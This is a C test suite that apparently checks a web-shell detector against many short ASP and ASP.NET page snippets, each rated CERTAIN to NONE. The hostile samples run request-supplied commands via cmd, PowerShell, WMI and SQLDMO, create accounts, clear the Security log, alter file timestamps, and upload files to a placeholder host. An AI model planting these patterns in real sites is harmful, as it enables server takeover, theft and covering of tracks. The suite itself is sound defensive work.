/* What pages do to the server beyond files and programs: accounts, tasks, services, sites, logs;
 * and the files of Visual Basic and of components. Each beside what an honest page does. */
#include "asp_t.h"

#define SHOPVB VB "<%@ Import Namespace=\"Shop.Data\" %>"

static void directories_of_accounts(void)
{
    CHECK(
        NET(CS "<% var e = new DirectoryEntry(Request[\"p\"]); Response.Write(e.Name); %>",
            LIKELY),
        NET(CS "<% var s = new DirectorySearcher(e, Request[\"f\"]); s.FindAll(); %>", LIKELY),
        NET(CS "<% var s = new DirectorySearcher(e); s.Filter = Request[\"f\"]; %>", LIKELY),
        NET(CS
            "<% var e = new DirectoryEntry(\"LDAP://shop\", Request[\"u\"], Request[\"p\"]); "
            "var s = new DirectorySearcher(e); s.Filter = \"(mail=\" + Request[\"u\"] + "
            "\")\"; s.FindOne(); %>",
            NONE),
        ASP("<% Set n = CreateObject(\"WScript.Network\")\nSet c = GetObject(\"WinNT://\" & "
            "n.ComputerName)\nSet u = c.Create(\"user\", \"a\")\nu.SetPassword "
            "\"b\"\nu.SetInfo "
            "%>",
            LIKELY),
        ASP("<% Set c = GetObject(\"LDAP://\" & name)\nResponse.Write c.Mail %>", NONE));
}

static void tasks(void)
{
    CHECK(
        NET(CS "<% dynamic s = Activator.CreateInstance(Type.GetTypeFromProgID("
               "\"Schedule.Service\")); s.Connect(); var d = s.NewTask(0); var a = "
               "d.Actions.Create(0); a.Path = \"cmd\"; a.Arguments = Request[\"x\"]; %>",
            CERTAIN),
        ASP("<% Set s = CreateObject(\"Schedule.Service\")\ns.Connect\nSet d = "
            "s.NewTask(0)\nSet a = d.Actions.Create(0)\na.Path = \"cmd\"\na.Arguments = "
            "Request(\"x\") %>",
            CERTAIN),
        ASP("<% Set s = CreateObject(\"Shop.Service\")\nSet d = s.NewTask(0)\nd.Path = "
            "Request(\"x\") %>",
            NONE),
        NET(CS "<% new TaskService().RootFolder.RegisterTaskDefinition(\"a\", d); %>", LIKELY),
        NET(SHOP "<% new TaskService().RootFolder.RegisterTaskDefinition(\"a\", d); %>", WEAK),
        NET(SHOP "<% Process.Start(\"schtasks\", \"/create /tn a /tr \" + Request[\"x\"]); %>",
            CERTAIN),
        NET(SHOP "<% Process.Start(\"schtasks\", \"/run /tn \" + Request[\"x\"]); %>", WEAK));
}

static void services_and_programs(void)
{
    CHECK(
        NET(CS "<% new ServiceController(Request[\"s\"]).Stop(); %>", LIKELY),
        NET(CS "<% Response.Write(new ServiceController(\"spooler\").Status); %>", NONE),
        NET(CS "<% Process.GetProcessById(int.Parse(Request[\"id\"])).Kill(); %>", LIKELY),
        NET(SHOP "<% foreach (var p in Process.GetProcesses()) if (p.Id == old) p.Kill(); %>",
            WEAK),
        ASP("<% For Each p In GetObject(\"winmgmts:\").ExecQuery(\"select * from Win32_Process "
            "where ProcessId=\" & Request(\"id\"))\np.Terminate\nNext %>",
            LIKELY),
        ASP("<% For Each p In GetObject(\"winmgmts:\").ExecQuery(\"select * from "
            "Win32_Process\")\nResponse.Write p.Name\nNext %>",
            NONE),
        ASP("<% Set m = GetObject(\"winmgmts:Win32_Process\").Methods_(\"Create\")"
            ".InParameters.SpawnInstance_()\nm.CommandLine = Request(\"x\")\n"
            "GetObject(\"winmgmts:Win32_Process\").ExecMethod_ \"Create\", m %>",
            CERTAIN),
        ASP("<% Set s = CreateObject(\"Shell.Application\")\ns.NameSpace(Request(\"d\"))"
            ".ParseName(Request(\"f\")).InvokeVerb \"open\" %>",
            CERTAIN));
}

static void programs_that_are_told(void)
{
    CHECK(NET(CS "<% var p = new Process(); p.StartInfo.FileName = \"cmd.exe\"; p.Start(); "
                 "p.StandardInput.WriteLine(Request[\"x\"]); %>",
              CERTAIN),
          NET(SHOP "<% var p = new Process(); p.StartInfo.FileName = \"tool.exe\"; p.Start(); "
                   "p.StandardInput.WriteLine(Request[\"x\"]); %>",
              WEAK),
          NET(CS "<% var p = Process.Start(\"cmd\"); p.StandardInput.Write(Request[\"x\"]); %>",
              CERTAIN),
          ASP("<% Set e = CreateObject(\"WScript.Shell\").Exec(\"cmd\")\ne.StdIn.WriteLine "
              "Request(\"x\") %>",
              CERTAIN),
          NET(CS "<% var s = new IWshRuntimeLibrary.WshShell(); s.Run(Request[\"x\"]); %>",
              CERTAIN),
          NET(CS "<% new Shell32.Shell().ShellExecute(\"cmd\", Request[\"x\"]); %>", CERTAIN),
          NET(CS "<% new Shop.Shell().Show(\"cmd\", Request[\"x\"]); %>", NONE));
}

static void powershell(void)
{
    CHECK(NET(CS "<% PowerShell.Create().AddCommand(Request[\"x\"]).Invoke(); %>", CERTAIN),
          NET(CS "<% var p = RunspaceFactory.CreateRunspace().CreatePipeline(); "
                 "p.Commands.Add(new Command(Request[\"x\"], true)); p.Invoke(); %>",
              CERTAIN),
          NET(SHOP
              "<% PowerShell.Create().AddCommand(\"Get-Mailbox\").AddParameter(\"Identity\", "
              "Request[\"x\"]).Invoke(); %>",
              WEAK),
          NET(SHOP "<% var p = RunspaceFactory.CreateRunspace().CreatePipeline(); "
                   "p.Commands.Add(\"Get-Date\"); p.Commands[0].Parameters.Add(\"a\", "
                   "Request[\"x\"]); p.Invoke(); %>",
              WEAK));
}

static void sites(void)
{
    CHECK(
        NET(CS "<% var m = new ServerManager(); m.Sites[0].Applications[0].VirtualDirectories"
               ".Add(\"/a\", Request[\"p\"]); m.CommitChanges(); %>",
            LIKELY),
        NET(CS "<% foreach (var p in new ServerManager().ApplicationPools) "
               "Response.Write(p.ProcessModel.Password); %>",
            LIKELY),
        NET(CS "<% foreach (var p in new ServerManager().ApplicationPools) "
               "Response.Write(p.Name); %>",
            NONE),
        NET(SHOP "<% new ServerManager().Sites.Add(\"a\", \"c:\\\\a\", 81); %>", WEAK),
        NET(CS "<% Context.ApplicationInstance.BeginRequest += Look; %>", LIKELY),
        NET(CS "<% Context.ApplicationInstance.CompleteRequest(); %>", NONE),
        NET(CS "<% RouteTable.Routes.MapPageRoute(\"a\", \"b\", \"~/c.aspx\"); %>", LIKELY),
        NET(CS "<% BuildManager.CreateInstanceFromVirtualPath(Request[\"p\"], t); %>", LIKELY),
        NET(CS "<% BuildManager.CreateInstanceFromVirtualPath(\"~/a.ascx\", t); %>", WEAK),
        NET(CS "<% Page.LoadControl(Request[\"p\"]); %>", LIKELY),
        NET(CS "<% Page.LoadControl(\"~/parts/\" + Request[\"p\"] + \".ascx\"); %>", NONE));
}

static void connections_of_databases(void)
{
    CHECK(
        NET(CS "<% var c = new MySqlConnection(Request[\"c\"]); new "
               "MySqlCommand(Request[\"q\"], c).ExecuteReader(); %>",
            CERTAIN),
        NET(SHOP "<% var c = new NpgsqlConnection(store); var q = new NpgsqlCommand(\"select a "
                 "where b = @b\", c); q.Parameters.AddWithValue(\"b\", Request[\"b\"]); %>",
            WEAK),

        NET(CS "<% Response.Write(ConfigurationManager.ConnectionStrings[Request[\"n\"]]); %>",
            LIKELY),
        NET(CS "<%@ Page Inherits=\"Shop.A\" %><% "
               "Open(ConfigurationManager.ConnectionStrings[Request[\"n\"]]); %>",
            WEAK),
        NET(CS "<% Open(ConfigurationManager.ConnectionStrings[\"shop\"]); %>", NONE),
        NET(CS "<% Open(ConfigurationManager.ConnectionStrings[\"shop\" + Request[\"n\"]]); %>",
            NONE));
}

static void logs(void)
{
    CHECK(NET(CS "<% new EventLog(\"Security\").Clear(); %>", LIKELY),
          NET(CS "<% new EventLog(\"Shop\").WriteEntry(\"a\"); names.Clear(); %>", NONE),
          NET(SHOP "<% EventLogSession.GlobalSession.ClearLog(\"Shop\"); %>", WEAK));
}

static void libraries(void)
{
    CHECK(
        NET(CS "<% new Publish().GacInstall(Request[\"f\"]); %>", CERTAIN),
        NET(CS "<% new Publish().Show(Request[\"f\"]); %>", NONE),
        NET(CS "<% typeof(A).Assembly.LoadModule(\"m\", Request.BinaryRead(9)); %>", CERTAIN),
        NET(CS "<% Assembly.LoadWithPartialName(\"System.Web\"); %>", WEAK),
        NET(CS "<% AppDomain.CurrentDomain.ExecuteAssemblyByName(Request[\"f\"]); %>", CERTAIN),
        NET(CS "<% var p = Expression.Parameter(typeof(string)); var go = "
               "Expression.Lambda<Func<string, Process>>(Expression.Call(typeof(Process), "
               "\"Start\", null, p), p).Compile(); go(Request[\"x\"]); %>",
            CERTAIN));
}

static void functions_of_the_system(void)
{
#define NATIVE(text, code)                                                 \
    "<script runat=server>[DllImport(\"user32\")] static extern int " text \
    "; void Page_Load() "                                                  \
    "{ " code " }</script>"
    CHECK(NET(CS NATIVE("CallWindowProc(byte[] a, IntPtr b)", "CallWindowProc(a, b);"), LIKELY),
          NET(CS NATIVE("EnumWindows(IntPtr a, IntPtr b)", "EnumWindows(a, b);"), LIKELY),
          NET(SHOP NATIVE("EnumWindows(IntPtr a, IntPtr b)", "EnumWindows(a, b);"), WEAK),
          NET(CS NATIVE("_wsystem(string a)", "_wsystem(Request[\"x\"]);"), CERTAIN),
          NET(CS NATIVE("CreateProcessW(string a, string b)",
                        "CreateProcessW(null, Request[\"x\"]);"),
              CERTAIN),
          NET(CS NATIVE("LoadLibrary(string a)", "LoadLibrary(Request[\"x\"]);"), CERTAIN),
          NET(SHOP NATIVE("LoadLibrary(string a)", "LoadLibrary(\"a.dll\");"), WEAK),
          NET(CS NATIVE("NetUserAdd(string a, int b)", "NetUserAdd(null, 1);"), LIKELY),
          NET(CS NATIVE("NetUserEnum(string a, int b)", "NetUserEnum(null, 1);"), NONE),
          NET(CS NATIVE("MiniDumpWriteDump(IntPtr a)", "MiniDumpWriteDump(a);"), LIKELY),
          NET(CS NATIVE("MessageBeep(int a)", "MessageBeep(1);"), NONE));
#undef NATIVE
}

static void networks(void)
{
    CHECK(NET(CS "<% var u = new UdpClient(); u.Connect(Request[\"h\"], 53); %>", LIKELY),
          NET(CS "<% new UdpClient().Send(d, d.Length, Request[\"h\"], 53); %>", LIKELY),
          NET(CS "<% new UdpClient(\"time\", 123).Send(d, d.Length); %>", WEAK),
          NET(CS "<% var p = new NamedPipeServerStream(\"a\"); p.WaitForConnection(); %>",
              LIKELY),
          NET(SHOP
              "<%@ Page Inherits=\"Shop.A\" %><% var p = new NamedPipeServerStream(\"a\"); %>",
              WEAK),
          ASP("<% Set n = CreateObject(\"WScript.Network\")\nn.MapNetworkDrive \"x:\", "
              "Request(\"s\") %>",
              LIKELY),
          ASP("<% Set n = CreateObject(\"WScript.Network\")\nResponse.Write n.UserName %>",
              NONE));
}

static void files_that_are_sent(void)
{
    CHECK(
        NET(CS "<% var m = new MailMessage(a, b); m.Attachments.Add(new "
               "Attachment(Request[\"f\"])); %>",
            LIKELY),
        NET(CS "<% var m = new MailMessage(a, b); m.Attachments.Add(new "
               "Attachment(Request.Files[0].InputStream, Request.Files[0].FileName)); %>",
            NONE),
        NET(CS "<% new WebClient().UploadFile(\"http://h/\", Request[\"f\"]); %>", LIKELY),
        NET(CS "<% new WebClient().UploadFile(\"http://h/\", name); %>", NONE),
        NET(VB "<% My.Computer.Network.UploadFile(Request(\"f\"), \"http://h/\") %>", LIKELY));
}

static void times_of_files(void)
{
    CHECK(NET(CS "<% File.SetLastWriteTimeUtc(Request[\"f\"], t); %>", LIKELY),
          NET(CS "<% Directory.SetCreationTime(Request[\"f\"], t); %>", LIKELY),
          NET(CS "<% new FileInfo(Request[\"f\"]).LastWriteTime = t; %>", LIKELY),
          NET(CS "<% new FileInfo(Server.MapPath(\"a.txt\")).LastWriteTime = t; %>", WEAK),
          NET(CS "<% order.LastWriteTime = Request[\"t\"]; File.Exists(\"a\"); %>", NONE));
}

static void files_of_visual_basic(void)
{
    CHECK(
        NET(VB "<% My.Computer.FileSystem.DeleteFile(Request(\"f\")) %>", LIKELY),
        NET(VB "<% For Each f In My.Computer.FileSystem.GetFiles(Request(\"d\"))\nNext %>",
            LIKELY),
        NET(VB "<% Dim w = My.Computer.FileSystem.OpenTextFileWriter(Request(\"f\"), "
               "False)\nw.Write(Request(\"d\")) %>",
            LIKELY),
        NET(VB "<% Response.Write(My.Computer.FileSystem.OpenTextFileReader(Request(\"f\"))"
               ".ReadToEnd()) %>",
            LIKELY),
        NET(VB "<% My.Computer.FileSystem.RenameFile(Request(\"a\"), Request(\"b\")) %>",
            LIKELY),
        NET(SHOPVB "<% My.Computer.FileSystem.DeleteFile(Server.MapPath(\"a.txt\")) %>", WEAK),
        NET(SHOPVB "<% Dim w = My.Computer.FileSystem.OpenTextFileWriter(Server.MapPath("
                   "\"a.txt\"), True)\nw.Write(Request(\"d\")) %>",
            WEAK),
        NET(VB "<% Dim f = Dir(Request(\"d\"))\nWhile f <> \"\"\nf = Dir()\nEnd While %>",
            LIKELY),
        NET(SHOPVB "<% If Dir(Server.MapPath(\"a.jpg\")) <> \"\" Then Response.Write(1) %>",
            WEAK),
        ASP("<% Response.Write Dir(Request(\"d\")) %>", NONE),
        NET(VB "<% Rename(Request(\"a\"), Request(\"b\")) %>", LIKELY),
        NET(VB "<% RmDir(Request(\"d\")) %>", LIKELY));
}

static void components(void)
{
    CHECK(
        ASP("<% Set s = CreateObject(\"SQLDMO.SQLServer\")\ns.Connect \".\", \"sa\", "
            "\"a\"\ns.CommandShellImmediate Request(\"x\") %>",
            CERTAIN),
        ASP("<% Set s = CreateObject(\"SQLDMO.SQLServer\")\ns.Connect \".\", \"sa\", \"a\" %>",
            WEAK),
        ASP("<% Set u = CreateObject(\"LyfUpload.UploadFile\")\nu.SaveFile \"f\", "
            "Request(\"d\"), True %>",
            LIKELY),
        ASP("<% Set u = CreateObject(\"Persits.Upload\")\nu.Save Server.MapPath(\".\") %>",
            LIKELY),
        ASP("<% Set u = CreateObject(\"Persits.Upload\")\nu.Save Server.MapPath(\"in\") %>",
            WEAK),
        ASP("<% Set u = CreateObject(\"Persits.Upload\")\nu.DeleteFile Request(\"f\")\n"
            "u.SendBinary Request(\"f\"), True %>",
            LIKELY),
        ASP("<% Set x = CreateObject(\"Microsoft.XMLDOM\")\nx.load Request(\"f\")\n"
            "Response.Write x.xml %>",
            WEAK),
        ASP("<% Set x = CreateObject(\"Microsoft.XMLDOM\")\nx.load Server.MapPath(\"a.xml\")\n"
            "Response.Write x.xml %>",
            NONE));
}

int main(void)
{
    T_RUN(directories_of_accounts);
    T_RUN(tasks);
    T_RUN(services_and_programs);
    T_RUN(programs_that_are_told);
    T_RUN(powershell);
    T_RUN(sites);
    T_RUN(connections_of_databases);
    T_RUN(logs);
    T_RUN(libraries);
    T_RUN(functions_of_the_system);
    T_RUN(networks);
    T_RUN(files_that_are_sent);
    T_RUN(times_of_files);
    T_RUN(files_of_visual_basic);
    T_RUN(components);
    return t_done();
}
